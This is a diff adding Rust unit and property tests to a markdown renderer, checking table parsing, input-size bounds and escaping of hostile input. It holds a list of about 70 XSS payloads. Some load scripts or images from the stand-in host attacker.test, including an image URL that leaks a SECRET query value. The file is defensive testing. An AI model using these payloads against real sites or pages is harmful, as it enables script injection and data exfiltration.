+            ("-|", 1),
+            ("| --- | :-: | --: |", 3),
+            ("|-|-| ", 2),
+            ("  | :-- |-", 2),
+        ];
+        for (row, columns) in rows {
+            assert_eq!(delimiter_columns(row), Some(columns), "{row:?}");
+            // The parser agrees: a header with that many cells makes a table of that width.
+            let header = vec!["h"; columns as usize].join("|");
+            let input = format!("|{header}|\n{row}\n");
+            let widths: Vec<usize> = Parser::new_ext(&input, Options::ENABLE_TABLES)
+                .filter_map(|event| match event {
+                    Event::Start(Tag::Table(alignments)) => Some(alignments.len()),
+                    _ => None,
+                })
+                .collect();
+            assert_eq!(widths, vec![columns as usize], "{input:?}");
+            assert_eq!(delimiter_columns(&format!("> > {row}")), Some(columns));
+        }
+        for row in ["| a |", "---", "1. |-|", "* |-|", "| -1 |", "|", ""] {
+            assert_eq!(delimiter_columns(row), None, "{row:?}");
+        }
+    }
+
+    #[test]
+    fn code_lang_is_restricted() {
+        let cases = [
+            ("rust", "rust"),
+            ("c++", "c++"),
+            ("c#", "c#"),
+            ("objective-c", "objective-c"),
+            ("rust,ignore", "rust"),
+            ("python title=\"x\"", "python"),
+            ("\"><script>alert(1)</script>", ""),
+            ("a'b", ""),
+            ("é", ""),
+            ("", ""),
+            (&"a".repeat(33), ""),
+        ];
+        for (info, lang) in cases {
+            assert_eq!(code_lang(&CowStr::from(info)), lang, "{info:?}");
+        }
+        assert_eq!(code_lang(&CowStr::from("a".repeat(32))), "a".repeat(32));
+    }
+
+    #[test]
+    fn table_padding_bound_counts_rows_until_blank_line() {
+        assert_eq!(table_padding_bound(""), 0);
+        // Two columns, two body rows: at most one padding cell each.
+        assert_eq!(
+            table_padding_bound("| a | b |\n|---|---|\n| 1 | 2 |\n| 3 |"),
+            2
+        );
+        assert_eq!(table_padding_bound("| a | b |\n|---|---|\n\n| 1 |"), 0);
+        // `\r\n` and `\r` line endings, inside a block quote.
+        assert_eq!(table_padding_bound("> a|b|c\r\n> -|-|-\r\n> 1\r2\n"), 4);
+        assert_eq!(table_padding_bound("---\ntext\n"), 0);
+        // Numeric rows (even with minus signs) are not delimiter rows.
+        let numbers = format!("|a|b|c|\n|-|-|-|\n{}", "| -1 | 2 | -3 |\n".repeat(2000));
+        assert_eq!(table_padding_bound(&numbers), 2 * 2000);
+        assert!(render(&numbers).starts_with("<table>"));
+    }
+
+    /// Asserts the output of pathological input is safe and at most linearly larger.
+    fn check_pathological(name: &str, input: &str) {
+        let html = render(input);
+        assert_safe(&html);
+        assert!(
+            html.len() <= 32 * input.len() + 4096,
+            "{name}: {} bytes in, {} bytes out",
+            input.len(),
+            html.len()
+        );
+    }
+
+    #[test]
+    fn pathological_inputs_render_bounded_and_safe() {
+        let mut refs = String::new();
+        for i in 0..3000 {
+            refs.push_str(&format!("[r{i}]: https://a.test/{i} \"t{i}\"\n"));
+        }
+        for i in 0..3000 {
+            refs.push_str(&format!("[x][r{i}] ![y][r{}] ", 2999 - i));
+        }
+        let long_ref = format!(
+            "[r]: https://a.test/{}\n\n{}",
+            "a".repeat(40_000),
+            "![x][r]".repeat(8000)
+        );
+        let mut wide_tables = String::new();
+        while wide_tables.len() < 150_000 {
+            wide_tables.push_str(&"|a".repeat(512));
+            wide_tables.push_str("|\n");
+            wide_tables.push_str(&"|-".repeat(512));
+            wide_tables.push_str("|\n");
+            wide_tables.push_str(&"x\n".repeat(520));
+            wide_tables.push('\n');
+        }
+        let cases: Vec<(&str, String)> = vec![
+            ("[a](<b", "[a](<b".repeat(17_000)),
+            ("[a](<b full size", "[a](<b".repeat(50_000)),
+            ("[ (](", "[ (](".repeat(20_000)),
+            ("CDATA", "a <![CDATA[".repeat(9_000)),
+            ("!-- <", "!-- <".repeat(20_000)),
+            ("<!--", "<!-- ".repeat(20_000)),
+            ("many refs", refs),
+            ("reference expansion", long_ref),
+            ("unclosed [^", "[^".repeat(50_000)),
+            ("unclosed [^ lines", "[^a\n".repeat(25_000)),
+            ("brackets", "[".repeat(100_000)),
+            ("image brackets", "![a](".repeat(20_000)),
+            ("emphasis", "*a_".repeat(33_000)),
+            ("backticks", "`a``".repeat(25_000)),
+            ("blockquotes", ">".repeat(100_000)),
+            (
+                "nested lists",
+                "- ".repeat(1000) + "\n" + &"  - a\n".repeat(10_000),
+            ),
+            ("html tags", "<a ".repeat(33_000)),
+            ("wide tables", wide_tables),
+            ("pipes", "|".repeat(100_000)),
+            (
+                "table rows",
+                format!("|a|b|\n|-|-|\n{}", "|x\n".repeat(30_000)),
+            ),
+            ("code fences", "```\n".repeat(25_000)),
+            ("autolinks", "<https://a.test/".repeat(6_000)),
+        ];
+        for (name, input) in &cases {
+            check_pathological(name, input);
+        }
+    }
+
+    #[test]
+    fn wide_table_padding_disables_tables() {
+        let mut input = String::new();
+        input.push_str(&"|a".repeat(512));
+        input.push_str("|\n");
+        input.push_str(&"|-".repeat(512));
+        input.push_str("|\n");
+        input.push_str(&"x\n".repeat(200));
+        assert!(table_padding_bound(&input) > MAX_TABLE_PADDING);
+        let html = render(&input);
+        assert!(!html.contains("<table>"));
+        assert_safe(&html);
+        // A normal table is still a table.
+        assert!(render("|a|b|\n|-|-|\n|1|2|").starts_with("<table>"));
+    }
+
+    /// XSS payloads: raw HTML, dangerous URLs, attribute breakouts and parser-confusion combos.
+    const XSS_PAYLOADS: &[&str] = &[
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=https://attacker.test/x.js></SCRIPT>",
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<iframe src=javascript:alert(1)>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\">",
+        "<details open ontoggle=alert(1)>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "[x](javascript:alert(1))",
+        "[x](JaVaScRiPt:alert(1))",
+        "[x](java&#x09;script:alert(1))",
+        "[x](&#106;avascript:alert(1))",
+        "[x](&#x6A;&#x61;vascript:alert(1))",
+        "[x]( javascript:alert(1))",
+        "[x](<javascript:alert(1)>)",
+        "[x](javascript&colon;alert(1))",
+        "[x](vbscript:msgbox(1))",
+        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+        "![x](https://attacker.test/p.png?q=SECRET)",
+        "![x][r]\n\n[r]: https://attacker.test/x.png",
+        "[x][r]\n\n[r]: javascript:alert(1)",
+        "<img srcset=\"https://attacker.test/x.png 1x\">",
+        "<picture><source srcset=https://attacker.test/x.png></picture>",
+        "<video poster=https://attacker.test/x.png>",
+        "<input type=image src=https://attacker.test/x.png>",
+        "<div style=\"background:url(https://attacker.test/x)\">x</div>",
+        "<link rel=prefetch href=https://attacker.test/x>",
+        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+        "<base href=//attacker.test/>",
+        "<form action=https://attacker.test><button>go</button></form>",
+        "<object data=https://attacker.test/x.swf>",
+        "<embed src=https://attacker.test/x.swf>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<style>@import url(//attacker.test/x.css)</style>",
+        "[x](//attacker.test)",
+        "[x](/relative)",
+        "[x](https:attacker)",
+        "<javascript:alert(1)>",
+        "<JAVASCRIPT:alert(1)>",
+        "```\"><script>alert(1)</script>\nx\n```",
+        "~~~ x onmouseover=alert(1)\nx\n~~~",
+        "[x](https://a.test \"\\\" onmouseover=alert(1) x=\\\"\")",
+        "[x](https://a.test 'a\\' onmouseover=alert(1)')",
+        "[x](<https://a.test/\" onmouseover=\"alert(1)>)",
+        "<https://a.test/\"onmouseover=\"alert(1)>",
+        "<a href=https://ok.test onclick=alert(1)>x</a>",
+        "**<img src=x onerror=alert(1)>**",
+        "*[x](javascript:alert(1))*",
+        "> <script>alert(1)</script>",
+        "- <iframe src=x>\n- [a](javascript:b)",
+        "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <svg onload=alert(1)> | [x](javascript:y) |",
+        "[<img src=x onerror=alert(1)>](https://a.test)",
+        "![<img src=x onerror=alert(1)>](https://a.test/x.png)",
+        "![x](https://a.test/\"onerror=\"alert(1))",
+        "[![x](javascript:a)](javascript:b)",
+        "<!-- --><script>alert(1)</script><!-- -->",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<?php echo 1 ?><script>alert(1)</script>",
+        "`<script>`<script>alert(1)</script>",
+        "<scr<script>ipt>alert(1)</script>",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "<textarea><script>alert(1)</script></textarea>",
+        "<template><script>alert(1)</script></template>",
+        "<x onpointerover=alert(1)>hover</x>",
+        "[x](\u{0}javascript:alert(1))",
+        "[x](\u{1}javascript:alert(1))",
+        "- [x] <input type=checkbox onclick=alert(1)>",
+        "# <h1 id=x onclick=alert(1)>",
+        "Setext <b onclick=alert(1)>\n===",
+    ];
+
+    #[test]
+    fn xss_corpus_is_neutralised() {
+        assert!(XSS_PAYLOADS.len() >= 40);
+        for payload in XSS_PAYLOADS {
+            let html = render(payload);
+            assert_safe(&html);
+            // Also inside containers, tables and emphasis.
+            for wrapped in [
+                format!("> {payload}"),
+                format!("- {payload}"),
+                format!("| {payload} |\n|---|\n| {payload} |"),
+                format!("*{payload}*"),
+                format!("text\n{payload}\ntext"),
+            ] {
+                assert_safe(&render(&wrapped));
+            }
+        }
+    }
+
+    #[test]
+    fn xss_payloads_render_as_text() {
+        check(
+            "<script>alert(1)</script>",
+            "<p class=\"md-raw-html\">&lt;script&gt;alert(1)&lt;/script&gt;</p>\n",
+        );
+        check("[x](javascript:alert(1))", "<p>x</p>\n");
+        check("[x](java&#x09;script:alert(1))", "<p>x</p>\n");
+        // An autolink with a disallowed scheme renders as its text.
+        check("<javascript:alert(1)>", "<p>javascript:alert(1)</p>\n");
+        check(
+            "```\"><script>alert(1)</script>\nx\n```",
+            &format!(
+                "<div class=\"code-block\"><div class=\"code-head\"><span class=\"code-lang\"></span>{COPY}</div>\
+                 <pre><code>x\n</code></pre></div>\n"
+            ),
+        );
+        check(
+            "[x](https://a.test \"\\\" onmouseover=alert(1) x=\\\"\")",
+            &format!(
+                "<p><a href=\"https://a.test\" {REL} title=\"&quot; onmouseover=alert(1) x=&quot;\">x</a></p>\n"
+            ),
+        );
+        check(
+            "![x](https://attacker.test/p.png?q=SECRET)",
+            &format!(
+                "<p><span class=\"md-image-blocked\" title=\"Image not loaded\">🖼 Image: x</span> \
+                 <a href=\"https://attacker.test/p.png?q=SECRET\" {REL}>https://attacker.test/p.png?q=SECRET</a></p>\n"
+            ),
+        );
+        check(
+            "<https://a.test/\"onmouseover=\"alert(1)>",
+            &format!(
+                "<p><a href=\"https://a.test/%22onmouseover=%22alert(1)\" {REL}>https://a.test/\"onmouseover=\"alert(1)</a></p>\n"
+            ),
+        );
+    }
+
+    #[test]
+    fn assert_safe_rejects_unsafe_html() {
+        let unsafe_html = [
+            "<img src=x>",
+            "<IMG SRC=x>",
+            "<p onclick=\"x\">",
+            "<p title=\"x\" onclick=x>",
+            "<a href=\"javascript:x\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">",
+            "<a href=\"/rel\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">",
+            "<a href=\"https://a.test\">",
+            "<p style=\"x\">",
+            "<p class=\"a\" <img>",
+            "<p",
+            "a < b",
+            "<!-- x -->",
+            "<p title=\"x>",
+            "<custom>",
+        ];
+        for html in unsafe_html {
+            let result = std::panic::catch_unwind(|| assert_safe(html));
+            assert!(result.is_err(), "assert_safe accepted {html:?}");
+        }
+        assert_safe("<p class=\"x\">a &lt; b</p><br /><a href=\"mailto:a@b\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">m</a>");
+    }
+
+    /// Fragments that combine into markdown/HTML-ish attack-shaped text.
+    const ALPHABET: &[&str] = &[
+        "<",
+        ">",
+        "\"",
+        "'",
+        "=",
+        "[",
+        "]",
+        "(",
+        ")",
+        "!",
+        ":",
+        "/",
+        "a",
+        "b",
+        "x",
+        " ",
+        "\n",
+        "\t",
+        "`",
+        "```",
+        "*",
+        "_",
+        "|",
+        "-",
+        "#",
+        "&",
+        ";",
+        "\\",
+        "script",
+        "onerror",
+        "onload",
+        "javascript",
+        "JaVaScRiPt",
+        "img",
+        "svg",
+        "src",
+        "href",
+        "https",
+        "mailto",
+        "data",
+        "&#106;",
+        "&#x09;",
+        "&colon;",
+        "<!--",
+        "-->",
+        "<![CDATA[",
+        "]]>",
+        "<?",
+        "?>",
+        "> ",
+        "- ",
+        "    ",
+        "[^",
+        "|-|",
+        "http://a.test",
+    ];
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(1024))]
+
+        #[test]
+        fn render_is_safe_for_markup_soup(
+            parts in proptest::collection::vec(proptest::sample::select(ALPHABET), 0..96)
+        ) {
+            let input = parts.concat();
+            assert_safe(&render(&input));
+        }
+
+        #[test]
+        fn render_is_safe_for_arbitrary_chars(
+            chars in proptest::collection::vec(any::<char>(), 0..256)
+        ) {
+            let input: String = chars.into_iter().collect();
+            assert_safe(&render(&input));
+        }
+    }
+}
